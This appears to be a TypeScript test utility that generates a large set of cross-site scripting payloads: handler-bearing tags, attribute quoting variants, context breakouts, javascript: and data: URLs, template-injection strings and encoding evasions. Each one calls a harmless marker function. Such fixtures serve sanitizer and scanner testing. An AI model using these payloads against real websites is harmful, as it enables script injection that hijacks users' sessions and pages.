/** Texts that run a script where a page takes them for more than text: each calls `__xss`. */

/** What a script would do. */
const CODES = ['__xss(1)', 'window.__xss(1)', 'self["__x"+"ss"](1)', '__xss`1`']

/** Elements that run a handler without a person, or with one. */
const TAGS: readonly (readonly [start: string, handler: string])[] = [
  ['img src=x', 'onerror'],
  ['img src=x srcset=x', 'onerror'],
  ['svg', 'onload'],
  ['svg/onload=x', 'onfocus'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=href', 'onend'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe srcdoc=x', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
  ['a href=#', 'onclick'],
  ['div tabindex=0 autofocus', 'onfocus'],
  ['div style=animation-name:x', 'onanimationstart'],
  ['p', 'onmouseover'],
  ['form', 'onsubmit'],
  ['dialog open', 'onclose'],
  ['math><mi', 'onpointerenter'],
  ['x contenteditable autofocus', 'onfocus'],
]

/** How an attribute may be written. */
const QUOTES: readonly ((handler: string, code: string) => string)[] = [
  (handler, code) => `${handler}=${code}`,
  (handler, code) => `${handler}="${code}"`,
  (handler, code) => `${handler.toUpperCase()}='${code}'`,
  (handler, code) => `${handler}\n=\t"${toReferences(code)}"`,
]

/** What may end the place that a text stands in. */
const BREAKOUTS = [
  '',
  '"><',
  "'><",
  '-->',
  ']]>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</select></option>',
  '</template>',
  '</noscript>',
  '</dl></section></article>',
  '"></a>',
  '&quot;&gt;',
  '\\"\\u003e',
]

/** Without a handler: scripts, and addresses of them. */
const WHOLE: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<script type=module>${code}//`,
  (code) => `<svg><script>${toReferences(code)}</script></svg>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<a href="java\tscript:${code}">x</a>`,
  (code) => `<a href="&#106;avascript&colon;${code}">x</a>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<button formaction=javascript:${code}>x</button>`,
  (code) => `<object data="data:text/html,<script>${code}</script>"></object>`,
  (code) => `<base href="javascript:/a/-${code}//">`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<style>@import "javascript:${code}"</style>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<template><img src=x onerror=${code}></template>`,
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}//https://site.example`,
  (code) => `\u0001java\nscript:${code}`,
  (code) => ` javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `vbscript:${code}`,
  (code) => `https://site.example/"onmouseover="${code}`,
  (code) => `https://site.example/' autofocus onfocus=${code} x='`,
  (code) => `mailto:a@site.example?subject="><img src=x onerror=${code}>`,
  (code) => `"onfocus=${code} autofocus="`,
  (code) => `' onmouseover='${code}`,
  (code) => `\` onerror=${code} \``,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `";${code};//`,
  (code) => `'-${code}-'`,
  (code) => `<!--<img src="--><img src=x onerror=${code}//">`,
  (code) => `<![CDATA[><img src=x onerror=${code}>]]>`,
  (code) => `<?xml?><img src=x onerror=${code}>`,
  (code) => `\u{1f600}\u202e<img src=x onerror=${code}>`,
  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `%3Cscript%3E${encodeURIComponent(code)}%3C/script%3E`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `＜script＞${code}＜/script＞`,
]

/** Every payload once, always in the same order. */
export function createPayloads(): string[] {
  const payloads = new Set<string>()
  for (const [at, breakout] of BREAKOUTS.entries()) {
    for (const code of CODES) {
      for (const whole of WHOLE) payloads.add(breakout + whole(code))
    }
    for (const [tag, [start, handler]] of TAGS.entries()) {
      // Each tag meets each way of writing, though not with each script.
      const code = CODES[(at + tag) % CODES.length] ?? ''
      for (const quote of QUOTES) payloads.add(`${breakout}<${start} ${quote(handler, code)}>`)
    }
  }
  return [...payloads]
}

function toReferences(code: string): string {
  return code.replaceAll(/./g, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`)
}
